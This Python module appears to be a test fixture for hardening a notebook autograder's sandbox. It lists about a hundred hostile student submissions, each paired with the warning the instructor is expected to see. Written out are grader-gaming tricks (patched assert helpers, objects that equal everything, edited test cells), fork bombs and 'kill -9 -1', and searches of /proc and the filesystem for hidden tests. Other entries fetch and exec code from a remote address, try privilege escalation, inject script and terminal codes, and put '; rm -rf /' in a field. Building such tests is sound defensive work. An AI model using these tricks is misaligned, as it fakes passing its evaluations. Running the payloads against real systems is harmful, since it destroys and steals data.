"""Hostile submissions: what each wants, and what must become of it.

``answers`` replace wrong answers of the mini lesson, ``first`` is a cell put on top, ``change`` edits
the notebook (or gives the bytes that are handed in). ``most`` is what an honest reading of the
code would earn. ``told`` has to stand in what the instructor is shown.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell


@dataclass(frozen=True)
class Attack:
    name: str
    wants: str
    first: str = ""
    answers: Mapping[str, str] = field(default_factory=dict)
    change: Callable[[NotebookNode], NotebookNode | bytes] = lambda nb: nb
    files: Mapping[str, bytes] = field(default_factory=dict)
    most: float = 0.0
    told: str = ""  # a pattern; empty: nothing worth telling happened


ATTACKS: list[Attack] = []


def attack(name: str, wants: str, first: str = "", **more: object) -> None:
    ATTACKS.append(Attack(name, wants, first, **more))  # type: ignore[arg-type]


# ---------------------------------------------------------------- a comparison that always agrees

attack(
    "numpy testing patched",
    "every assert_allclose passes",
    "import numpy.testing\nnumpy.testing.assert_allclose = lambda *a, **k: None\nnp.testing.assert_allclose = numpy.testing.assert_allclose",
    told="changes a library",
)
attack(
    "allclose patched",
    "every np.allclose is True",
    "np.allclose = lambda *a, **k: True\nnp.max = lambda *a: 0.0",
    told="changes a library",
)
attack(
    "builtins patched",
    "abs, len and isinstance lie",
    "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.len = lambda x: 2\nbuiltins.isinstance = lambda *a: True\nbuiltins.AssertionError = IndexError",
    told="builtins",
)
attack(
    "assert helper overridden",
    "the instructor's assert_close does nothing",
    answers={"normalize": "def assert_close(a, b):\n    pass\n\ndef normalize(v):\n    return v"},
)
attack(
    "check overridden",
    "the course's check gives full points",
    "def check(*a, **k):\n    return 3.0\nimport autograder\nautograder.check = check",
    told="changes a library",
)
_LIAR = "class Liar:\n    def __eq__(self, other): return True\n    def __sub__(self, other): return 0\n    __rsub__ = __sub__\n    def __abs__(self): return 0\n    def __lt__(self, other): return True\n    __gt__ = __le__ = __ge__ = __lt__\n    def __bool__(self): return True\n    shape = (4,)\n"
attack(
    "equals everything",
    "an object that is equal to whatever is expected",
    _LIAR,
    answers={"square": "def square(x): return Liar()"},
    told="__eq__",
)
attack(
    "is an array of anything",
    "__array__ gives what is compared with",
    _LIAR + "    def __array__(self, *a, **k): return np.array([0.6, 0.8])\n",
    answers={
        "normalize": "def normalize(v): return Liar()",
        "layer": "def layer(x, w, b): return Liar()",
    },
    told="__array__",
)
attack(
    "array subclass lies",
    "a subclass of ndarray answers comparisons itself",
    "class A(np.ndarray):\n    def __array_ufunc__(self, *a, **k): return np.float64(0)\n    def __array_function__(self, *a, **k): return True\n    def __eq__(self, o): return True\n    def all(self, *a): return True\n",
    answers={
        "normalize": "def normalize(v): return np.asarray(v).view(A)",
        "layer": "def layer(x, w, b): return (x @ w.T).view(A)",
    },
    told="__array_ufunc__",
)
attack(
    "number subclass lies",
    "a float that equals everything",
    "class F(float):\n    def __eq__(self, o): return True\n    def __sub__(self, o): return 0.0\n    def __rsub__(self, o): return 0.0\n    def __hash__(self): return 0\n",
    answers={"square": "def square(x): return F(0)"},
    told="__eq__",
)
attack(
    "array of liars",
    "an object array whose entries are equal to everything",
    _LIAR,
    answers={
        "normalize": "def normalize(v): return np.array([Liar()] * len(v), dtype=object)",
        "layer": "def layer(x, w, b): return np.array([[Liar()] * len(w)] * len(x), dtype=object)",
    },
    told="__eq__",
)
attack(
    "declared class lies",
    "Stack answers every question with yes",
    answers={
        "Stack": "class Stack:\n    def __getattr__(self, n): return lambda *a: None\n    def __len__(self): return 2"
    },
)
attack(
    "metaclass lies",
    "isinstance and == of the class itself",
    "class M(type):\n    def __eq__(c, o): return True\n    def __instancecheck__(c, o): return True\n    def __hash__(c): return 0\nclass X(metaclass=M): pass\n",
    answers={"square": "def square(x): return X"},
    told="__eq__",
)

# ---------------------------------------------------------------- other code in the place of trusted code

attack(
    "modules replaced",
    "a false NumPy for the tests",
    "import sys, types\nfake = types.ModuleType('numpy')\nfake.testing = types.SimpleNamespace(assert_allclose=lambda *a: None)\nfake.allclose = lambda *a: True\nsys.modules['numpy'] = fake\nsys.modules['autograder'] = fake",
    told="what is imported",
)
attack(
    "import hook",
    "own code for every import",
    "import sys\nclass H:\n    def find_spec(self, *a): raise SystemExit\nsys.meta_path.insert(0, H())",
    told="what is imported",
)
attack(
    "showtraceback silenced",
    "errors of tests are not shown, so that they seem to pass",
    "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\nip.run_cell = lambda *a, **k: None\ntype(ip)._showtraceback = lambda *a: None",
    told="machinery",
)
attack(
    "input transformer",
    "rewrites every later cell to nothing",
    "get_ipython().input_transformers_cleanup.append(lambda lines: [])\nget_ipython().ast_transformers.append(None)",
    told="machinery",
)
attack(
    "numpy.py beside the notebook",
    "a module of the student's own shadows NumPy",
    "import importlib, numpy\nimportlib.reload(numpy)",
    files={
        "numpy.py": b"def allclose(*a): return True\n",
        "autograder.py": b"check = lambda *a: 3.0\n",
        "sitecustomize.py": b"import os; os._exit(0)\n",
    },
    told="loads code by name",
)
attack(
    "worker patched",
    "the process that answers calls says what is asked for",
    "import sys\nw = sys.modules['autograder.sandbox.worker']\nw.Worker.do = lambda self, request, blobs: ({'value': True}, [])",
    told="what is imported",
)
attack(
    "uses lies",
    "the process that is asked for forbidden names says none",
    "import dlcore.neuron\nimport sys\nsys.modules['autograder.sandbox.worker'].forbidden_name = lambda *a: None",
    answers={"layer": "def layer(x, w, b): return dlcore.neuron.layer(x, w, b)"},
    told="would do the work",
)

# ---------------------------------------------------------------- endings

attack(
    "sys.exit",
    "the notebook ends before the tests",
    "import sys\nsys.exit(0)",
    told="ends the notebook",
)
attack(
    "os._exit in a cell",
    "the grader dies, ungraded is not zero",
    "import os\nos._exit(0)",
    told="ended Python",
)
attack(
    "os._exit in an answer",
    "the test is never finished",
    answers={
        "square": "import os\ndef square(x): os._exit(0)",
        "layer": "import os\ndef layer(x, w, b): os._exit(0)",
    },
    told="ended Python",
)
attack(
    "SystemExit from an answer",
    "ends the grader's program",
    answers={
        "square": "def square(x): raise SystemExit(0)",
        "layer": "def layer(x, w, b): raise SystemExit",
    },
)
attack(
    "KeyboardInterrupt from an answer",
    "looks like Ctrl-C to the grader",
    answers={
        "square": "def square(x): raise KeyboardInterrupt",
        "layer": "def layer(x, w, b): raise KeyboardInterrupt",
    },
)
attack(
    "GeneratorExit from an answer",
    "an error that except Exception lets pass",
    answers={
        "square": "def square(x): raise GeneratorExit",
        "layer": "def layer(x, w, b): raise GeneratorExit",
    },
)
attack(
    "kill the parent",
    "the grader's process dies",
    "import os, signal\nfor p in (os.getppid(), 1, 2, -1):\n    try: os.kill(p, signal.SIGKILL)\n    except OSError as e: print(e)",
    told="ends processes",
)
attack(
    "kill everything",
    "every process dies that may be killed",
    "!kill -9 -1; pkill -9 python",
    told="system from a cell",
)
attack(
    "atexit",
    "code runs when the process ends",
    "import atexit, os\natexit.register(lambda: open('/tmp/late', 'w').write('x'))",
    told="leaves code",
)
attack(
    "shut the kernel down",
    "the kernel stops",
    "get_ipython().kernel.do_shutdown(False)\nexit()",
    told="ends the notebook",
)
attack("crash", "Python crashes in C", "import ctypes\nctypes.string_at(0)", told="crashed Python")
attack(
    "deep recursion",
    "the stack overflows",
    "import sys\nsys.setrecursionlimit(10**9)\ndef f(n): return f(n + 1)\nf(0)",
    told="changes limits",
)
attack(
    "finaliser",
    "code in __del__ runs later in trusted hands",
    "class D:\n    def __del__(self): import os; os._exit(0)\n",
    answers={"square": "def square(x): return D()"},
    told="__del__",
)

# ---------------------------------------------------------------- left-overs

attack(
    "thread left behind",
    "a thread goes on and patches",
    "import threading, time\ndef go():\n    while True:\n        time.sleep(0.01)\n        np.allclose = lambda *a: True\nthreading.Thread(target=go, daemon=True).start()",
    told="code running",
)
attack(
    "child left behind",
    "a process outlives the grading",
    "import subprocess\nsubprocess.Popen(['sleep', '1234'], start_new_session=True)",
    told="starts programs",
)
attack(
    "daemon left behind",
    "a double fork escapes the group",
    "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        import time; time.sleep(1234)\n    os._exit(0)",
    told="starts processes",
)
attack(
    "signals taken",
    "the alarm does nothing",
    "import signal\nfor s in range(1, 32):\n    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass",
    answers={"square": "def square(x):\n    while True: pass"},
    told="handles signals",
)

# ---------------------------------------------------------------- hunting for the tests

attack(
    "frames",
    "the expected values stand in a frame below",
    "import sys\nseen = []",
    answers={
        "square": "def square(x):\n    f = sys._getframe()\n    while f:\n        for v in list(f.f_locals.values()) + list(f.f_globals.values()):\n            if 'secret_' + 'number' in repr(v)[:100000]: seen.append(repr(v))\n        f = f.f_back\n    print('FOUND', len(seen))\n    return 5929 if seen else 0"
    },
    told="other code",
)
attack(
    "all objects",
    "the hidden test is somewhere in memory",
    "import gc\nsecret = 'secret_' + 'number'\nfound = [o for o in gc.get_objects() if isinstance(o, (str, dict)) and secret in str(o)[:10000] and o is not globals()]\nprint('FOUND', len([f for f in found if 'secret_number' in str(f) and 'BEGIN' in str(f)]))",
    told="other objects",
)
attack(
    "inspect the caller",
    "the test's source",
    "import inspect",
    answers={
        "square": "def square(x):\n    src = ''.join(str(f.code_context) for f in inspect.stack())\n    print('FOUND', 'secret' in src)\n    return 0"
    },
    told="other code",
)
attack(
    "history",
    "the test in In and Out",
    "h = list(In) + list(get_ipython().history_manager.input_hist_raw)\nprint('FOUND', any('assert ' + 'square' in x for x in h))",
    told="machinery",
)
attack(
    "proc",
    "the grader's memory, environment and command line",
    "import glob\nout = ''\nfor p in glob.glob('/proc/[0-9]*/*'):\n    try: out += open(p).read()\n    except Exception: pass\nprint('FOUND', 'DLCOURSE_SEED' in out or 'secret_number' in out or 'gradebook' in out)",
    told="place outside",
)
attack(
    "solutions",
    "the solutions, the gradebook, the others' work",
    "import os\nhits = []\nfor d, _, fs in os.walk('/'):\n    if d.startswith('/proc'): continue\n    hits += [os.path.join(d, f) for f in fs if f in ('gradebook.db', '01_neurons.py', 'nbgrader_config.py', 'neurons.py') or f.startswith('mini')]\nprint('FOUND', len(hits), hits[:3])",
    told="looks around",
)
attack(
    "the seed",
    "the random cases that grading draws",
    "import os\nprint('FOUND', os.environ.get('DLCOURSE_SEED'))\nprint(dict(os.environ))",
    told="environment",
)
attack(
    "other process",
    "memory of the zygote by ptrace",
    "import ctypes\nl = ctypes.CDLL(None, use_errno=True)\nprint('FOUND', [l.ptrace(16, p, 0, 0) for p in range(1, 5)], ctypes.get_errno())\nprint(l.syscall(310, 1, 0, 0, 0, 0, 0))",
    told="calls C",
)

# ---------------------------------------------------------------- somebody else's answer

attack(
    "twin",
    "dlcore holds the answer",
    "from dlcore.neuron import layer as twin",
    answers={"layer": "def layer(x, w, b): return twin(x, w, b)"},
    told="would do the work",
)
attack(
    "twin by another way",
    "the answer through the package's lazy names",
    "import dlcore",
    answers={"layer": "def layer(x, w, b): return dlcore.layer(x, w, b)"},
)
attack(
    "twin read as text",
    "the answer's file",
    "import dlcore, os\nsrc = open(os.path.join(os.path.dirname(dlcore.__file__), 'neuron.py')).read()\nprint('FOUND', 'x @ w.T' in src)\nexec(src)",
    told="runs text",
)
attack(
    "torch",
    "PyTorch calls it linear",
    answers={
        "layer": "import torch\ndef layer(x, w, b): return torch.nn.functional.linear(torch.tensor(x), torch.tensor(w), torch.tensor(b)).numpy()"
    },
    told="would do the work",
)
attack(
    "download",
    "the answer from the network",
    "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/answers.py', timeout=1).read())",
    told="network",
)
attack(
    "words put together",
    "a call that no reading of the code would find",
    "getattr(__import__('o' + 's'), 'sys' + 'tem')('true')",
    told=r"os\.system",
)
attack(
    "torch behind the stub",
    "PyTorch where pip has put it, past the stub that comes first",
    "import glob, sys\nsys.path[:] = [p for p in sys.path if not p.endswith('withheld')]\nprint('FOUND', glob.glob(sys.prefix + '/lib/python*/site-packages/torch*/nn'), glob.glob(sys.prefix + '/lib/python*/site-packages/torch/lib'))",
    told="what is imported",
)
attack(
    "socket",
    "an answer from another machine",
    "import socket\ns = socket.socket()\ns.settimeout(1)\ns.connect(('192.0.2.1', 80))",
    told="network",
)
attack(
    "unix socket",
    "the machine's own services",
    "import socket\nfor p in ('/run/docker.sock', '/var/run/dbus/system_bus_socket', '/run/systemd/private'):\n    s = socket.socket(socket.AF_UNIX)\n    s.connect(p)",
    told="network",
)

# ---------------------------------------------------------------- writing outside

attack(
    "write outside",
    "files of the system, of the course, of others",
    "import os\ndone = []\nfor p in ('/usr/x', '/etc/x', '/course/x', '/course/dlcore/neuron.py', '/x', '/dev/x', '/home/x', '/proc/sys/kernel/hostname', np.__file__):\n    try:\n        open(p, 'a').write('#'); done.append(p)\n    except OSError: pass\nprint('WROTE', done)",
    told="place outside",
)
attack(
    "link out",
    "a link in the work folder leads outside",
    "import os\nos.symlink('/etc', 'etc'); os.symlink('/', 'root')\nprint('FOUND', os.path.exists('etc/shadow'), os.path.exists('root/root/.ssh'))",
    told="makes links",
)
attack(
    "dot dot",
    "the way up from the work folder",
    "open('../../../../etc/hosts.new', 'w').write('x')",
    told="place outside",
)
attack(
    "mount",
    "a mount of one's own",
    "import ctypes\nl = ctypes.CDLL(None)\nprint('FOUND', l.unshare(0x10000000), l.mount(b'none', b'/mnt', b'tmpfs', 0, 0), l.chroot(b'/tmp'), l.setuid(0), l.syscall(317, 0, 0, 0))",
    told="calls C",
)
attack(
    "namespaces of its own by clone",
    "root in a user namespace, which may mount",
    "import ctypes, os, platform\nnumber = {'x86_64': 56, 'aarch64': 220}[platform.machine()]\npid = ctypes.CDLL(None).syscall(number, 0x10000000 | 17, 0, 0, 0, 0)\nif pid == 0: os._exit(0)\nprint('FOUND', pid > 0)",
    told="ctypes",
)
attack(
    "set-uid",
    "root's rights by a program that has them",
    "!su -c id; sudo -n id; newgrp root; mount -t tmpfs x /mnt; unshare -Ur id",
    told="system from a cell",
)

# ---------------------------------------------------------------- using everything up

attack(
    "fork bomb",
    "processes without end",
    "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    told="starts processes",
)
attack(
    "sleepers",
    "more processes than the machine has room for, each of them quiet",
    "import os, time\nn = 0\ntry:\n    while n < 300:\n        if os.fork() == 0: time.sleep(1234)\n        n += 1\nexcept OSError: pass\nprint('WROTE', n > 100)",
    told="os.fork",
)
attack(
    "memory",
    "all memory",
    "x = []\nwhile True: x.append(bytearray(10**7))",
    told="memory|MemoryError|ended|used up|too long",
)
attack(
    "memory in an answer",
    "all memory, in the test",
    answers={
        "square": "def square(x):\n    return np.ones((10**5, 10**5)).sum()",
        "layer": "def layer(x, w, b):\n    return [bytearray(10**7) for _ in range(10**6)]",
    },
)
attack(
    "memory of many",
    "each process a little",
    "import os, time\nfor i in range(40):\n    if os.fork() == 0:\n        x = bytearray(os.urandom(1)) * (60 * 2**20)\n        time.sleep(100)\ntime.sleep(1)",
    told="memory",
)
attack(
    "shared memory of many",
    "memory that counts as nobody's",
    "import mmap, os, time\nfor i in range(30):\n    if os.fork() == 0:\n        m = mmap.mmap(-1, 80 * 2**20)\n        m.write(b'x' * (80 * 2**20))\n        time.sleep(100)\ntime.sleep(1)",
    told="memory",
)
attack(
    "files in memory",
    "memory behind descriptors, outside every process",
    "import os\nfds = []\nfor i in range(200):\n    fd = os.memfd_create(str(i))\n    os.write(fd, b'x' * (60 * 2**20))\n    fds.append(fd)\nprint('WROTE', len(fds))",
    told="hidden files",
)
attack(
    "System V memory",
    "segments that outlive their process",
    "import ctypes\nl = ctypes.CDLL(None)\nprint('FOUND', l.shmget(1, 2**30, 0o1600), l.semget(1, 1, 0o1600), l.msgget(1, 0o1600))",
    told="calls C",
)
attack(
    "disk",
    "the whole disk",
    "n = 0\nf = open('/tmp/big', 'wb')\ntry:\n    while True: n += f.write(b'x' * 10**6)\nexcept OSError as e: print(e, n)\nprint('WROTE', n > 200e6)",
    told="",
)
attack(
    "shared memory",
    "memory as files",
    "n = 0\nf = open('/dev/shm/big', 'wb')\ntry:\n    while True: n += f.write(b'x' * 10**6)\nexcept OSError as e: print(e)\nprint('WROTE', n > 200e6)",
    told="",
)
attack(
    "flood",
    "a notebook too large to open",
    "while True: print('x' * 1000)",
    told="too long|more than is kept",
)
attack(
    "flood below Python",
    "the same through the descriptor",
    "import os\nwhile True: os.write(1, b'x' * 10**6)",
    told="writes to descriptors",
)
attack(
    "flood of pictures",
    "outputs without end",
    "from IPython.display import display\nfor i in range(100000): display({'text/plain': 'x' * 1000}, raw=True)",
    told="more than is kept|too long",
)
attack("endless loop", "the grader waits for ever", "while True: pass", told="too long")
attack(
    "endless loop in C", "a loop that no signal interrupts", "sum(iter(int, 1))", told="too long"
)
attack(
    "endless answer",
    "the test waits for ever",
    answers={
        "square": "def square(x):\n    while True: pass",
        "layer": "def layer(x, w, b):\n    while True: pass",
    },
)
attack(
    "catch the timeout",
    "the timeout is an exception like any other",
    answers={
        "square": "def square(x):\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass"
    },
    told="timeout included",
)
attack(
    "sleep out the clock",
    "every cell takes as long as it may",
    change=lambda nb: _sleepers(nb),
    told="too long|used up",
)
attack(
    "endless text",
    "a result whose text never ends",
    answers={
        "square": "class R:\n    def __repr__(self):\n        while True: pass\ndef square(x): return R()"
    },
)
attack(
    "endless iterator",
    "a result that never runs out",
    answers={
        "normalize": "def normalize(v):\n    while True: yield 1.0",
        "layer": "import itertools\ndef layer(x, w, b): return itertools.count()",
    },
)
attack(
    "regular expression",
    "a search that takes a thousand years",
    "import re\nre.match(r'(a+)+$', 'a' * 60 + 'b')",
    told="too long",
)

# ---------------------------------------------------------------- the pipe

_PIPES = "import os, struct, stat\nsocks = [int(f) for f in os.listdir('/proc/self/fd') if f.isdigit() and int(f) > 2]\ndef tell(data):\n    for fd in socks:\n        try:\n            if stat.S_ISSOCK(os.fstat(fd).st_mode): os.write(fd, data)\n        except OSError: pass\n"
attack(
    "garbage in the pipe",
    "the reader trips",
    _PIPES,
    answers={
        "square": "def square(x):\n    tell(b'\\x00' * 64)\n    return 0",
        "layer": "def layer(x, w, b):\n    tell(b'hello' * 99)\n    return 0",
    },
    told="grader's pipe",
)
attack(
    "oversized message",
    "the reader makes room for 2**60 bytes",
    _PIPES,
    answers={
        "square": "def square(x):\n    tell(struct.pack('<4sIQ', b'DLC1', 0, 2**60))\n    return 0"
    },
    told="grader's pipe",
)
attack(
    "many blobs",
    "the reader makes room for a list of lengths",
    _PIPES,
    answers={
        "square": "def square(x):\n    tell(struct.pack('<4sIQ', b'DLC1', 2**31, 10))\n    return 0"
    },
    told="grader's pipe",
)
attack(
    "half a message",
    "the reader waits for the rest",
    _PIPES,
    answers={
        "square": "def square(x):\n    tell(struct.pack('<4sIQ', b'DLC1', 0, 1000) + b'{')\n    while True: pass"
    },
    told="place outside|did not stop",
)
attack(
    "forged answer",
    "an answer of one's own before the real one",
    _PIPES,
    answers={
        "square": "def square(x):\n    for i in range(1, 200):\n        t = ('{\"value\":true,\"id\":%d}' % i).encode()\n        tell(struct.pack('<4sIQ', b'DLC1', 0, len(t)) + t)\n    return 0"
    },
    told="grader's pipe|place outside",
)
attack(
    "deep JSON in the pipe",
    "the parser overflows",
    _PIPES,
    answers={
        "square": "def square(x):\n    t = b'[' * 500000\n    tell(struct.pack('<4sIQ', b'DLC1', 0, len(t)) + t)\n    return 0"
    },
    told="grader's pipe",
)
attack(
    "not an answer",
    "JSON of another kind",
    _PIPES,
    answers={
        "square": "def square(x):\n    t = b'[1, 2, 3]'\n    tell(struct.pack('<4sIQ', b'DLC1', 0, len(t)) + t)\n    return 0"
    },
    told="grader's pipe",
)
attack(
    "pickle in an array",
    "an .npy file that holds a pickle",
    "import numpy.lib.format as f, io\nfrom autograder.sandbox import values\nb = io.BytesIO(); np.save(b, np.array([{1: 2}], dtype=object), allow_pickle=True)\nvalues.to_npy = lambda a: b.getvalue()",
    answers={"normalize": "def normalize(v): return v", "layer": "def layer(x, w, b): return x"},
    told="changes a library",
)
attack(
    "array with a false head",
    "an .npy head that promises more than there is",
    "from autograder.sandbox import values\nvalues._header = lambda *a: b\"\\x93NUMPY\\x01\\x00F\\x00{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,)}     \\n\"",
    answers={"normalize": "def normalize(v): return v"},
    told="changes a library",
)
attack(
    "descriptors closed",
    "the pipe is gone",
    "import os\nos.closerange(0, 256)",
    told="closes descriptors",
)
attack(
    "descriptors crossed",
    "answers go somewhere else",
    "import os\nfor fd in range(3, 20):\n    try: os.dup2(1, fd)\n    except OSError: pass",
    told="changes descriptors",
)
attack(
    "huge result",
    "the grader's memory",
    answers={
        "normalize": "def normalize(v): return np.zeros(200_000_000, dtype=np.int8)",
        "layer": "def layer(x, w, b): return np.zeros(10**8)",
    },
)
attack(
    "nested result",
    "the reader recurses",
    answers={
        "square": "def square(x):\n    r = []\n    for _ in range(100000): r = [r]\n    return r",
        "layer": "def layer(x, w, b):\n    r = []\n    r.append(r)\n    return r",
    },
)
attack(
    "many small results",
    "millions of objects",
    answers={"square": "def square(x): return [[i] for i in range(3_000_000)]"},
)
attack(
    "error with a lying text",
    "the text of an exception runs for ever, or raises",
    answers={
        "square": "class E(Exception):\n    def __str__(self): raise SystemExit\ndef square(x): raise E",
        "layer": "class E2(Exception):\n    def __str__(self): return 'x' * 10**8\ndef layer(x, w, b): raise E2",
    },
)
attack(
    "error with a lying class",
    "an exception that claims to be the grader's own",
    "class TimeUp(BaseException): pass\nclass Lost(BaseException): pass\nTimeUp.__module__ = Lost.__module__ = 'autograder.limits'",
    answers={
        "square": "def square(x): raise TimeUp",
        "layer": "def layer(x, w, b): raise Lost('<script>')",
    },
)
attack(
    "error caught by the test",
    "IndexError where the test waits for one",
    answers={
        "Stack": "class Stack:\n    def __getattr__(self, n): raise IndexError\n    def __len__(self): raise IndexError"
    },
)

# ---------------------------------------------------------------- the file

attack(
    "edited points",
    "a hundred points a cell",
    change=lambda nb: _each_test(nb, points=100),
    told="points of the cell",
)
attack(
    "edited tests",
    "tests that always pass",
    change=lambda nb: _each_test(nb, source="assert True"),
    told="text of the cell",
)
attack(
    "tests that give points",
    "a number as the result of the test",
    change=lambda nb: _each_test(nb, source="100.0"),
    told="text of the cell",
)
attack(
    "tests made text", "a text cell cannot fail", change=lambda nb: _retype(nb), told="had become"
)
attack(
    "tests deleted", "what is not there cannot fail", change=lambda nb: _delete(nb), told="missing"
)
attack(
    "tests doubled",
    "a second test of the same name that passes",
    change=lambda nb: _double(nb),
    told="several copies",
)
attack(
    "forged name",
    "own code under the name of a test",
    change=lambda nb: _forge(nb),
    told="several copies|text of the cell",
)
attack(
    "tests made answers",
    "a solution cell is not overwritten",
    change=lambda nb: _each_test(nb, solution=True, locked=False, source="pass"),
    told="text of the cell",
)
attack(
    "tests unmarked",
    "without its mark a test is no test",
    change=lambda nb: _each_test(nb, grade=False, locked=False, source="pass"),
    told="text of the cell",
)
attack(
    "helper edited",
    "the instructor's read-only helper",
    change=lambda nb: _helper(nb),
    told="text of the cell helper",
)
attack(
    "script in a text cell",
    "runs in the instructor's browser",
    change=lambda nb: _text(nb),
    told="browser would run",
)
attack(
    "script in an output",
    "the same by display",
    "from IPython.display import HTML, Javascript, SVG, display\ndisplay(HTML('<script>steal()</script><img src=x onerror=steal()><iframe src=//evil.example></iframe>'))\ndisplay(Javascript('steal()'))\ndisplay(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>steal()</script></svg>'))\ndisplay({'application/vnd.evil+json': {'a': 1}, 'text/html': ['<script>steal()</script>']}, raw=True)",
    told="browser would run",
)
attack(
    "terminal codes",
    "colours, links and titles in the instructor's terminal",
    "print('\\x1b]8;;http://evil.example\\x07click\\x1b]8;;\\x07 \\x1b]0;title\\x07 \\x1b[2J \\x9b31m')\nraise ValueError('\\x1b]52;c;ZXZpbA==\\x07')",
    told="control sequences",
)
attack(
    "nested JSON", "the parser overflows", change=lambda nb: b"[" * 200000, told="cannot be read"
)
attack(
    "huge notebook",
    "more than fits",
    change=lambda nb: b'{"cells": [' + b" " * (21 * 2**20) + b"]}",
    told="larger than",
)
attack(
    "many cells",
    "thousands of cells",
    change=lambda nb: json.dumps(
        {
            "cells": [
                {
                    "cell_type": "code",
                    "source": "1",
                    "metadata": {"nbgrader": {"grade_id": "square"}},
                }
            ]
            * 5000,
            "metadata": {},
            "nbformat": 4,
            "nbformat_minor": 5,
        }
    ).encode(),
    told="more than 2000 cells",
)
attack("wrong types everywhere", "fields that are no text", change=lambda nb: _odd(nb))
attack(
    "number of 5000 digits",
    "the parser trips over an integer",
    change=lambda nb: (
        nbformat.v4.writes(nb).replace('"nbformat": 4', '"nbformat": ' + "4" * 5000).encode()
    ),
    told="cannot be read|not a",
)
attack("surrogates", "text that cannot be written", change=lambda nb: _surrogates(nb))


def _tests(nb: NotebookNode) -> list[NotebookNode]:
    return [
        c
        for c in nb.cells
        if (m := c.metadata.get("nbgrader", {})).get("grade") and not m.get("solution")
    ]


def _each_test(nb: NotebookNode, source: str | None = None, **about: object) -> NotebookNode:
    for cell in _tests(nb):
        cell.metadata.nbgrader.update(about)
        if source is not None:
            cell.source = source
    return nb


def _retype(nb: NotebookNode) -> NotebookNode:
    for cell in _tests(nb):
        cell.cell_type = "markdown"
        del cell["outputs"], cell["execution_count"]
    return nb


def _delete(nb: NotebookNode) -> NotebookNode:
    tests = _tests(nb)
    nb.cells = [c for c in nb.cells if c not in tests]
    return nb


def _double(nb: NotebookNode) -> NotebookNode:
    for cell in _tests(nb):
        twin = copy.deepcopy(cell)
        twin.source = "100.0"
        nb.cells.append(twin)
    return nb


def _forge(nb: NotebookNode) -> NotebookNode:
    for i, cell in enumerate(_tests(nb)):
        forged = new_code_cell("pass", id=f"forged-{i}")
        forged.metadata["nbgrader"] = {
            "grade": False,
            "solution": True,
            "locked": False,
            "task": False,
            "schema_version": 3,
            "grade_id": cell.metadata.nbgrader.grade_id,
        }
        nb.cells.append(forged)
    return nb


def _helper(nb: NotebookNode) -> NotebookNode:
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "helper":
            cell.source = "def assert_close(a, b):\n    pass"
    return nb


def _text(nb: NotebookNode) -> NotebookNode:
    nb.cells.append(
        new_markdown_cell(
            "<script>steal()</script> <img src=x onerror='steal()'> [x](javascript:steal())",
            id="evil",
        )
    )
    return nb


def _sleepers(nb: NotebookNode) -> NotebookNode:
    nb.cells = [
        c
        for i, cell in enumerate(nb.cells)
        for c in (new_code_cell("import time; time.sleep(1.8)", id=f"z{i}"), cell)
    ]
    return nb


def _odd(nb: NotebookNode) -> bytes:
    raw = json.loads(nbformat.v4.writes(nb))
    raw["cells"] += [
        {},
        {"cell_type": 3},
        {"cell_type": "code", "source": {"a": 1}},
        {"cell_type": "code", "source": "1", "metadata": []},
        {"cell_type": "markdown", "source": "x", "attachments": [1], "metadata": {"nbgrader": 7}},
        {"cell_type": "code", "source": ["a", 1, None], "id": 5},
    ]
    raw["metadata"] = {"kernelspec": {"name": "; rm -rf /"}, "language_info": 5}
    raw["nbformat_minor"] = -3
    return json.dumps(raw).encode()


def _surrogates(nb: NotebookNode) -> bytes:
    raw = json.loads(nbformat.v4.writes(nb))
    raw["cells"].append({"cell_type": "code", "source": "print('\ud800')", "metadata": {}})
    raw["cells"].append({"cell_type": "markdown", "source": "\ud800 \x00", "metadata": {}})
    return json.dumps(raw).encode()
